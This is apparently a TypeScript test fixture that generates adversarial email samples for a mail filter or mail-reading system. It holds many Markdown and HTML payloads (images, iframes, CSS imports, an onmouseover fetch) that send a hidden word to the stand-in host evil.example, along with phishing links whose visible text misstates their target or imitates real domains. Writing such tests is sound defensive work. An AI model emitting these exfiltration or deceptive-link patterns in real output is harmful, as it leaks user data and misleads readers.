/** Links that lie, and markup that a client would fetch: each target has the mail's unseen word in its query. */
import { escaped, html, mail, plain, type Trick } from './mail.ts'

type Text = (unseen: string) => string
const target = (unseen: string) => `https://evil.example/p.png?who=${unseen}`

const texts: Readonly<Record<string, Text>> = {
  image: (word) => `![a](${target(word)})`,
  'image with a title': (word) => `![a](${target(word)} "title")`,
  'image in angles': (word) => `![a](<${target(word)}>)`,
  'image without words': (word) => `![](${target(word)})`,
  'image of brackets in brackets': (word) => `![a[b]c](${target(word)})`,
  'image in a link': (word) => `[![a](${target(word)})](${target(word)})`,
  'image by reference': (word) => `![a][r]\n\n[r]: ${target(word)}`,
  'image by short reference': (word) => `![r]\n\n[r]: ${target(word)}`,
  'image by collapsed reference': (word) => `![r][]\n\n[r]: ${target(word)} "title"`,
  'reference in angles': (word) => `![r]\n\n[r]: <${target(word)}>`,
  'reference on two lines': (word) => `![r]\n\n[r]:\n${target(word)}\n'title'`,
  'reference in a quote': (word) => `![r]\n\n> [r]: ${target(word)}`,
  'reference in a list': (word) => `![r]\n\n- [r]: ${target(word)}`,
  'image on two lines': (word) => `![a\nb](\n${target(word)}\n)`,
  'image with escapes': (word) => `![a\\]b](${target(word)})`,
  'image behind an invisible': (word) => `!\u200b[a](${target(word)})`,
  'image behind a control': (word) => `!\u0001[a](${target(word)})`,
  'element img': (word) => `<img src="${target(word)}">`,
  'element img in capitals': (word) => `<IMG/SRC=${target(word)}>`,
  'element img on two lines': (word) => `<img\nsrc='${target(word)}'>`,
  'element iframe': (word) => `<iframe src="${target(word)}"></iframe>`,
  'element script': (word) => `<script src="${target(word)}"></script>`,
  'element link': (word) => `<link rel="stylesheet" href="${target(word)}">`,
  'element style': (word) => `<style>@import url(${target(word)})</style>`,
  'element svg': (word) => `<svg><image href="${target(word)}"/></svg>`,
  'element object': (word) => `<object data="${target(word)}"></object>`,
  'element video': (word) => `<video poster="${target(word)}" src="${target(word)}"></video>`,
  'element meta': (word) => `<meta http-equiv="refresh" content="0;url=${target(word)}">`,
  'element form': (word) => `<form action="${target(word)}"><button>Go</button></form>`,
  'element with a background': (word) => `<div style="background:url(${target(word)})">x</div>`,
  'element base': (word) => `<base href="${target(word)}"><a href="x">x</a>`,
  link: (word) => `[Your bank](${target(word)})`,
  autolink: (word) => `<${target(word)}>`,
  'bare link': (word) => `see ${target(word)} now`,
  'link without a scheme': (word) => `[Your bank](//evil.example/?who=${word})`,
  'link of www': (word) => `[Your bank](http://www.evil.example/?who=${word})`,
  'data image': (word) => `![a](data:image/png;base64,${Buffer.from(word).toString('base64')})`,
  'data page': (word) => `[a](data:text/html,${word})`,
  'script in a link': () => '[a](javascript:alert(1))',
}

const texted = Object.entries(texts).flatMap(([name, text]): Trick[] => [
  {
    name: `link: ${name}, plain`,
    raw: ({ seen, unseen }) => mail([], plain(`Words ${seen}\n\n${text(unseen)}\n`)),
  },
  {
    name: `link: ${name}, as text of HTML`,
    raw: ({ seen, unseen }) =>
      mail(
        [],
        html(
          `<p>Words ${seen}</p><p>${escaped(text(unseen)).replaceAll('\n', '<br>').replaceAll('](', ']<b>(</b>')}</p>`,
        ),
      ),
  },
])

const elements: Readonly<Record<string, Text>> = {
  srcset: (word) => `<img srcset="${target(word)} 2x" src="${target(word)}">`,
  picture: (word) =>
    `<picture><source srcset="${target(word)}"><img src="${target(word)}" alt="Logo"></picture>`,
  'background attribute': (word) => `<table background="${target(word)}"><tr><td>x</td></tr></table>`,
  'style url': (word) => `<p style="background-image:url(${target(word)})">x</p>`,
  'style sheet import': (word) =>
    `<style>@import "${target(word)}";@font-face{src:url(${target(word)})}</style>`,
  preload: (word) =>
    `<link rel="preload" href="${target(word)}"><link rel="dns-prefetch" href="//${word}.evil.example">`,
  ping: (word) => `<a href="https://x.example/a" ping="${target(word)}">x</a>`,
  form: (word) =>
    `<form action="${target(word)}"><input name="q" value="x"><button formaction="${target(word)}">Go</button></form>`,
  map: (word) => `<map name="m"><area href="${target(word)}"></map><img usemap="#m" alt="Map">`,
  'object and embed': (word) => `<object data="${target(word)}"></object><embed src="${target(word)}">`,
  'svg use': (word) => `<svg><use href="${target(word)}#x"/><image xlink:href="${target(word)}"/></svg>`,
  frame: (word) =>
    `<iframe src="${target(word)}"></iframe><frameset><frame src="${target(word)}"></frameset>`,
  'event handler': (word) => `<p onmouseover="fetch('${target(word)}')">x</p>`,
}
const fetched = Object.entries(elements).map(
  ([name, element]): Trick => ({
    name: `link: ${name}`,
    raw: ({ seen, unseen }) => mail([], html(`<p>Words ${seen}</p>${element(unseen)}`)),
  }),
)

const mismatch = ['link_text_mismatch']
const lies: Readonly<Record<string, readonly [element: string, flags: readonly string[]]>> = {
  'another host': ['<a href="https://evil.example/login">https://bank.example/login</a>', mismatch],
  'another host without scheme': ['<a href="https://evil.example">www.bank.example</a>', mismatch],
  'user info': ['<a href="https://bank.example@evil.example/">https://bank.example</a>', mismatch],
  'longer name': ['<a href="https://bank.example.evil.example/">bank.example</a>', mismatch],
  'an address of numbers': ['<a href="http://203.0.113.9/">https://bank.example</a>', mismatch],
  'dots in brackets': ['<a href="https://evil.example">bank[.]example</a>', mismatch],
  'full width': ['<a href="https://evil.example">ｂａｎｋ.example</a>', mismatch],
  'second name in the words': ['<a href="https://evil.example">evil.example, or bank.example</a>', mismatch],
  'base of the page': [
    '<base href="https://evil.example/"><a href="login">https://bank.example/login</a>',
    mismatch,
  ],
  'shared host': ['<a href="https://evil.github.io">good.github.io</a>', mismatch],
  'address of another': ['<a href="mailto:x@evil.example">help@bank.example</a>', mismatch],
  'Cyrillic letters': ['<a href="https://раураl.com/">Sign in</a>', ['link_lookalike']],
  punycode: ['<a href="https://xn--pypal-4ve.com/">Sign in</a>', ['link_lookalike']],
  'digits for letters': ['<a href="https://paypa1.example/">PayPal</a>', ['link_lookalike']],
  'redirect of a search': [
    '<a href="https://www.google.com/url?q=https://evil.example/">https://bank.example</a>',
    mismatch,
  ],
}
const lying = Object.entries(lies).flatMap(([name, [element, flags]]): Trick[] => [
  {
    name: `link: lies, ${name}`,
    raw: ({ seen }) => mail([], html(`<p>Words ${seen}</p>${element}`)),
    flags,
  },
])
const markdownLies: readonly Trick[] = [
  ['inline', '[https://bank.example/login](https://evil.example/login)'],
  ['reference', '[https://bank.example/login][r]\n\n[r]: https://evil.example/login'],
  ['short reference', '[bank.example]\n\n[bank.example]: https://evil.example/login'],
  ['angles', '[https://bank.example](<https://evil.example/login>)'],
  ['brackets in brackets', '[https://bank.example [safe]](https://evil.example/login)'],
].map(([name = '', text = '']) => ({
  name: `link: lies in Markdown, ${name}`,
  raw: ({ seen }) => mail([], plain(`Words ${seen}\n\n${text}\n`)),
  flags: mismatch,
}))

/** Between elements this is neither a link nor an address to anybody. */
const noLinkInHtml = 'link: link without a scheme, as text of HTML'

export const links: readonly Trick[] = [
  ...texted.filter(({ name }) => name !== noLinkInHtml),
  ...fetched,
  ...lying,
  ...markdownLies,
]
